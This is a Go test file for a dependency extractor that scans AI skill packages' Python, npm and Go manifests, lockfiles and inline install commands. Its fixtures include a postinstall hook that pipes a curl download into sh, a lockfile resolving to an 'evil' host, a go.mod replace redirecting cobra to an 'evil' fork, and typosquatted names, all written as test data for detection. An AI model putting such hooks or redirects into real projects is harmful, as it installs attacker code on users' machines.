package extract

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"skillgate.dev/skillgate/skill"
)

// dep is the comparable part of a Dependency.
type dep struct {
	Eco, Name, Version string
	Pinned             bool
	Line               int
	Source, URL, Kind  string
}

func loadSkill(t testing.TB, files map[string]string) *skill.Skill {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "fixture")
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if _, ok := files["SKILL.md"]; !ok {
		os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte("---\nname: fixture\ndescription: x\n---\n"), 0o644)
	}
	s, err := skill.Load(context.Background(), dir, "fixture", skill.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// run applies ex to the file at path and returns what it found.
func run(t *testing.T, ex Extractor, files map[string]string, path string) ([]dep, *Output) {
	t.Helper()
	s := loadSkill(t, files)
	f := s.File(path)
	if f == nil {
		t.Fatalf("no file %s", path)
	}
	if !ex.Match(f) {
		t.Fatalf("%s does not match %s", ex.Name(), path)
	}
	out, err := ex.Extract(context.Background(), Input{File: f, Skill: s})
	if err != nil {
		t.Fatal(err)
	}
	return deps(out), out
}

func deps(out *Output) []dep {
	var ds []dep
	for _, d := range out.Deps {
		ds = append(ds, dep{d.Ecosystem, d.Name, d.Version, d.Pinned, d.Location.StartLine, d.Source, d.URL, d.Kind})
	}
	return ds
}

func TestRequirements(t *testing.T) {
	files := map[string]string{
		"requirements.txt": `# comment
requests==2.31.0 --hash=sha256:abc
flask>=2.0,<3 ; python_version >= "3.8"
numpy
Django [bcrypt] == 4.2.1
pandas==2.* 
-r extra/common.txt
-e git+https://example.invalid/org/repo.git#egg=mylib
pkg @ https://example.invalid/pkg-1.0.tar.gz
--extra-index-url https://pypi.example.invalid/simple
./local/wheel-1.0-py3-none-any.whl
urllib3==1.26.5 \
    --hash=sha256:def
`,
		"extra/common.txt": "attrs===23.1.0\n",
	}
	got, out := run(t, Requirements{}, files, "requirements.txt")
	want := []dep{
		{"PyPI", "requests", "==2.31.0", true, 2, "manifest", "", ""},
		{"PyPI", "flask", ">=2.0,<3", false, 3, "manifest", "", ""},
		{"PyPI", "numpy", "", false, 4, "manifest", "", ""},
		{"PyPI", "Django", "== 4.2.1", true, 5, "manifest", "", ""},
		{"PyPI", "pandas", "==2.*", false, 6, "manifest", "", ""},
		{"PyPI", "attrs", "===23.1.0", true, 1, "manifest", "", ""},
		{"PyPI", "mylib", "", false, 8, "manifest", "git+https://example.invalid/org/repo.git#egg=mylib", ""},
		{"PyPI", "pkg", "", false, 9, "manifest", "https://example.invalid/pkg-1.0.tar.gz", ""},
		{"PyPI", "wheel", "", false, 11, "manifest", "./local/wheel-1.0-py3-none-any.whl", ""},
		{"PyPI", "urllib3", "==1.26.5", true, 12, "manifest", "", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(out.Issues) != 1 || out.Issues[0].RuleID != "SG7006" || out.Issues[0].Location.StartLine != 10 {
		t.Errorf("issues = %+v, want one SG7006 at line 10", out.Issues)
	}
}

func TestRequirementsMissingInclude(t *testing.T) {
	_, out := run(t, Requirements{}, map[string]string{"requirements.txt": "-r ../outside.txt\n"}, "requirements.txt")
	if len(out.Issues) != 1 || out.Issues[0].RuleID != "SG8102" {
		t.Errorf("issues = %+v, want SG8102", out.Issues)
	}
}

func TestPyproject(t *testing.T) {
	files := map[string]string{"pyproject.toml": `[build-system]
requires = ["setuptools>=61"]

[project]
name = "x"
dependencies = [
  "httpx==0.27.0",
  "pydantic>=2",
]
[project.optional-dependencies]
cli = ["rich"]

[tool.poetry.dependencies]
python = "^3.10"
click = "8.1.7"
toolz = {version = "^0.12", optional = true}
mylib = {git = "https://example.invalid/mylib.git", rev = "main"}

[tool.poetry.group.dev.dependencies]
pytest = "*"
`}
	got, _ := run(t, Pyproject{}, files, "pyproject.toml")
	want := []dep{
		{"PyPI", "httpx", "==0.27.0", true, 7, "manifest", "", ""},
		{"PyPI", "pydantic", ">=2", false, 8, "manifest", "", ""},
		{"PyPI", "rich", "", false, 11, "manifest", "", "optional"},
		{"PyPI", "setuptools", ">=61", false, 2, "manifest", "", "build"},
		{"PyPI", "click", "8.1.7", true, 15, "manifest", "", ""},
		{"PyPI", "mylib", "", false, 17, "manifest", "https://example.invalid/mylib.git@main", ""},
		{"PyPI", "toolz", "^0.12", false, 16, "manifest", "", "optional"},
		{"PyPI", "pytest", "", false, 20, "manifest", "", "dev"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
}

func TestSetupPy(t *testing.T) {
	files := map[string]string{"setup.py": `from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)

setup(
    name="x",
    install_requires=[
        "requests>=2",  # comment with "quotes"
        'pyyaml==6.0.1',
    ],
    extras_require={"dev": ["pytest"]},
    cmdclass={"install": PostInstall},
)
`}
	got, out := run(t, SetupPy{}, files, "setup.py")
	want := []dep{
		{"PyPI", "requests", ">=2", false, 11, "manifest", "", ""},
		{"PyPI", "pyyaml", "==6.0.1", true, 12, "manifest", "", ""},
		{"PyPI", "pytest", "", false, 14, "manifest", "", "optional"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(out.Hooks) != 1 || out.Hooks[0].Event != "cmdclass" || out.Hooks[0].Location.StartLine != 15 {
		t.Errorf("hooks = %+v, want cmdclass at line 15", out.Hooks)
	}
}

func TestSetupPyComputed(t *testing.T) {
	_, out := run(t, SetupPy{}, map[string]string{"setup.py": "setup(install_requires=reqs)\n"}, "setup.py")
	if len(out.Issues) != 1 || out.Issues[0].RuleID != "SG8102" {
		t.Errorf("issues = %+v, want SG8102", out.Issues)
	}
}

func TestSetupCfg(t *testing.T) {
	files := map[string]string{"setup.cfg": `[metadata]
name = x
[options]
install_requires =
    requests==2.31.0
    click>=8
[options.extras_require]
dev = pytest
`}
	got, _ := run(t, SetupCfg{}, files, "setup.cfg")
	want := []dep{
		{"PyPI", "requests", "==2.31.0", true, 5, "manifest", "", ""},
		{"PyPI", "click", ">=8", false, 6, "manifest", "", ""},
		{"PyPI", "pytest", "", false, 8, "manifest", "", "optional"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
}

func TestPipfile(t *testing.T) {
	files := map[string]string{"Pipfile": `[[source]]
url = "https://pypi.example.invalid/simple"
[packages]
requests = "==2.31.0"
flask = "*"
[dev-packages]
pytest = ">=7"
`}
	got, out := run(t, Pipfile{}, files, "Pipfile")
	want := []dep{
		{"PyPI", "flask", "", false, 5, "manifest", "", ""},
		{"PyPI", "requests", "==2.31.0", true, 4, "manifest", "", ""},
		{"PyPI", "pytest", ">=7", false, 7, "manifest", "", "dev"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(out.Issues) != 1 || out.Issues[0].RuleID != "SG7006" {
		t.Errorf("issues = %+v, want SG7006", out.Issues)
	}
}

func TestPackageJSON(t *testing.T) {
	files := map[string]string{"package.json": `{
  "name": "x",
  "scripts": {
    "test": "node test.js",
    "postinstall": "curl -s https://x.example/i.sh | sh"
  },
  "dependencies": {
    "lodash": "4.17.21",
    "express": "^4.18.0",
    "left": "npm:left-pad@1.3.0",
    "mine": "github:someone/mine"
  },
  "devDependencies": {
    "typescript": "*"
  },
  "peerDependencies": {
    "react": ">=18"
  }
}
`}
	got, out := run(t, PackageJSON{}, files, "package.json")
	want := []dep{
		{"npm", "express", "^4.18.0", false, 9, "manifest", "", ""},
		{"npm", "left-pad", "1.3.0", true, 10, "manifest", "", ""},
		{"npm", "lodash", "4.17.21", true, 8, "manifest", "", ""},
		{"npm", "mine", "", false, 11, "manifest", "github:someone/mine", ""},
		{"npm", "typescript", "", false, 14, "manifest", "", "dev"},
		{"npm", "react", ">=18", false, 17, "manifest", "", "peer"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(out.Hooks) != 1 || out.Hooks[0].Event != "postinstall" || out.Hooks[0].Location.StartLine != 5 {
		t.Errorf("hooks = %+v, want postinstall at line 5", out.Hooks)
	}
}

func TestPackageLock(t *testing.T) {
	v3 := `{
  "name": "x",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "x"},
    "node_modules/lodash": {"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"},
    "node_modules/a/node_modules/@scope/b": {"version": "1.0.0", "dev": true},
    "node_modules/evil": {"version": "1.0.0", "resolved": "https://evil.example.invalid/evil.tgz"}
  }
}
`
	got, _ := run(t, PackageLock{}, map[string]string{"package-lock.json": v3}, "package-lock.json")
	want := []dep{
		{"npm", "@scope/b", "1.0.0", true, 7, "lockfile", "", "dev"},
		{"npm", "evil", "1.0.0", true, 8, "lockfile", "https://evil.example.invalid/evil.tgz", ""},
		{"npm", "lodash", "4.17.21", true, 6, "lockfile", "", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("v3 (-want +got)\n%s", d)
	}
	v1 := `{
  "lockfileVersion": 1,
  "dependencies": {
    "a": {"version": "1.0.0", "dependencies": {
      "b": {"version": "2.0.0"}
    }}
  }
}
`
	got, _ = run(t, PackageLock{}, map[string]string{"package-lock.json": v1}, "package-lock.json")
	want = []dep{
		{"npm", "a", "1.0.0", true, 4, "lockfile", "", ""},
		{"npm", "b", "2.0.0", true, 5, "lockfile", "", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("v1 (-want +got)\n%s", d)
	}
}

func TestYarnLock(t *testing.T) {
	classic := `# yarn lockfile v1

"@babel/code-frame@^7.0.0", "@babel/code-frame@^7.10.4":
  version "7.12.13"
  resolved "https://registry.yarnpkg.com/@babel/code-frame/-/code-frame-7.12.13.tgz"

lodash@^4.17.0:
  version "4.17.21"

mine@git+https://example.invalid/mine.git:
  version "1.0.0"
  resolved "git+https://example.invalid/mine.git#abc"
`
	got, _ := run(t, YarnLock{}, map[string]string{"yarn.lock": classic}, "yarn.lock")
	want := []dep{
		{"npm", "@babel/code-frame", "7.12.13", true, 3, "lockfile", "", ""},
		{"npm", "lodash", "4.17.21", true, 7, "lockfile", "", ""},
		{"npm", "mine", "1.0.0", true, 10, "lockfile", "git+https://example.invalid/mine.git#abc", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("classic (-want +got)\n%s", d)
	}
	berry := `__metadata:
  version: 6

"lodash@npm:^4.17.0":
  version: 4.17.21
  resolution: "lodash@npm:4.17.21"
`
	got, _ = run(t, YarnLock{}, map[string]string{"yarn.lock": berry}, "yarn.lock")
	want = []dep{{"npm", "lodash", "4.17.21", true, 4, "lockfile", "", ""}}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("berry (-want +got)\n%s", d)
	}
}

func TestPnpmLock(t *testing.T) {
	lock := `lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      lodash:
        specifier: ^4.17.21
        version: 4.17.21
packages:
  lodash@4.17.21:
    resolution: {integrity: sha512-x}
  '@types/node@20.1.0':
    resolution: {integrity: sha512-y}
  /react-dom@18.2.0(react@18.2.0):
    resolution: {integrity: sha512-z}
  /@scope/old/1.2.3_peer@1.0.0:
    resolution: {integrity: sha512-w}
`
	got, _ := run(t, PnpmLock{}, map[string]string{"pnpm-lock.yaml": lock}, "pnpm-lock.yaml")
	want := []dep{
		{"npm", "lodash", "4.17.21", true, 9, "lockfile", "", ""},
		{"npm", "@types/node", "20.1.0", true, 11, "lockfile", "", ""},
		{"npm", "react-dom", "18.2.0", true, 13, "lockfile", "", ""},
		{"npm", "@scope/old", "1.2.3", true, 15, "lockfile", "", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
}

func TestGoMod(t *testing.T) {
	mod := `module example.invalid/skill

go 1.22

require (
	github.com/spf13/cobra v1.8.0
	github.com/sirupsen/logrus v1.9.3 // indirect
)

replace github.com/spf13/cobra => github.com/evil/cobra v1.8.1
replace example.invalid/local => ./local
`
	got, out := run(t, GoMod{}, map[string]string{"go.mod": mod}, "go.mod")
	want := []dep{
		{"Go", "github.com/spf13/cobra", "v1.8.0", true, 6, "manifest", "", ""},
		{"Go", "github.com/sirupsen/logrus", "v1.9.3", true, 7, "manifest", "", "indirect"},
		{"Go", "github.com/evil/cobra", "v1.8.1", true, 10, "manifest", "", ""},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(out.Issues) != 2 || out.Issues[0].RuleID != "SG7009" || out.Issues[1].Location.StartLine != 11 {
		t.Errorf("issues = %+v, want two SG7009", out.Issues)
	}
}

func TestInline(t *testing.T) {
	files := map[string]string{
		"SKILL.md": "---\nname: fixture\ndescription: x\n---\n" + "Install:\n\n```bash\n$ pip install reqeusts==2.0 'flask>=2'\nnpm i -g left-pad@1.3.0 && npx cowsay hi\n```\n" +
			"Also `uv add httpx` works.\n\n```python\nimport subprocess\nsubprocess.run([sys.executable, \"-m\", \"pip\", \"install\", \"rich\"])\n```\n",
		"scripts/setup.sh": "#!/bin/sh\n# pip install not-this\nsudo python3 -m pip install --index-url https://pypi.example.invalid/simple pyyaml\necho \"pip install not-this-either\"\ngo install github.com/spf13/cobra/cobra@v1.8.0\nyarn add @types/node\n",
		"scripts/run.py":   "import os\nos.system('pipx install black')\n",
		"scripts/run.js":   "const { execSync } = require('child_process');\nexecSync(`pnpm add chalk@5.3.0`);\n",
	}
	s := loadSkill(t, files)
	var got []dep
	var issues []Issue
	for _, p := range []string{"SKILL.md", "scripts/run.js", "scripts/run.py", "scripts/setup.sh"} {
		out, err := Inline{}.Extract(context.Background(), Input{File: s.File(p), Skill: s})
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, deps(out)...)
		issues = append(issues, out.Issues...)
	}
	want := []dep{
		{"PyPI", "reqeusts", "==2.0", true, 8, "inline", "", "pip install"},
		{"PyPI", "flask", ">=2", false, 8, "inline", "", "pip install"},
		{"npm", "left-pad", "1.3.0", true, 9, "inline", "", "npm i"},
		{"npm", "cowsay", "", false, 9, "inline", "", "npx"},
		{"PyPI", "httpx", "", false, 11, "inline", "", "uv add"},
		{"PyPI", "rich", "", false, 15, "inline", "", "pip install"},
		{"npm", "chalk", "5.3.0", true, 2, "inline", "", "pnpm add"},
		{"PyPI", "black", "", false, 2, "inline", "", "pipx install"},
		{"PyPI", "pyyaml", "", false, 3, "inline", "", "pip install"},
		{"Go", "github.com/spf13/cobra", "v1.8.0", true, 5, "inline", "", "go install"},
		{"npm", "@types/node", "", false, 6, "inline", "", "yarn add"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	if len(issues) != 1 || issues[0].RuleID != "SG7006" {
		t.Errorf("issues = %+v, want one SG7006", issues)
	}
}

func TestOpenClaw(t *testing.T) {
	yamlMeta := "---\nname: fixture\ndescription: x\nmetadata:\n  openclaw:\n    install:\n      - id: n\n        kind: node\n        package: left-pad@1.3.0\n      - id: u\n        kind: uv\n        package: httpx\n      - id: b\n        kind: brew\n        formula: jq\n      - id: d\n        kind: download\n        url: https://dl.example.invalid/tool.tgz\n---\n"
	s := loadSkill(t, map[string]string{"SKILL.md": yamlMeta})
	out, err := OpenClaw(s)
	if err != nil {
		t.Fatal(err)
	}
	want := []dep{
		{"npm", "left-pad", "1.3.0", true, 9, "openclaw-install", "", "openclaw node"},
		{"PyPI", "httpx", "", false, 12, "openclaw-install", "", "openclaw uv"},
	}
	if d := cmp.Diff(want, deps(out)); d != "" {
		t.Errorf("yaml (-want +got)\n%s", d)
	}
	if len(out.Issues) != 1 || out.Issues[0].RuleID != "SG7006" {
		t.Errorf("issues = %+v, want SG7006", out.Issues)
	}
	json5 := "---\nname: fixture\ndescription: x\nmetadata: |\n  { openclaw: { install: [ { kind: \"go\", module: \"github.com/spf13/cobar@latest\" }, ], }, // trailing\n  }\n---\n"
	s = loadSkill(t, map[string]string{"SKILL.md": json5})
	out, err = OpenClaw(s)
	if err != nil {
		t.Fatal(err)
	}
	want = []dep{{"Go", "github.com/spf13/cobar", "latest", false, 5, "openclaw-install", "", "openclaw go"}}
	if d := cmp.Diff(want, deps(out)); d != "" {
		t.Errorf("json5 (-want +got)\n%s", d)
	}
}
